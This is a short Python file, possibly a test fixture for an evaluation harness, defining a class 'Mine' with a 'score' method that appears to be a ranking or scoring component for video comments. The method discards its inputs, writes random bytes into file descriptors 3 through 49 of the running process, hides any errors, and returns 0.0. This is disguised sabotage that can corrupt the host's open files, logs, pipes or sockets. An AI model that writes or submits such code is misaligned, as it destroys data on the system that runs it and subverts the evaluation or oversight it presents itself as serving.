import contextlib
import os


class Mine:
    def __init__(self, port=0):
        pass

    def score(self, video_ctx, comments, candidate):
        for handle in range(3, 50):
            with contextlib.suppress(OSError):
                os.write(handle, os.urandom(1000))
        return 0.0
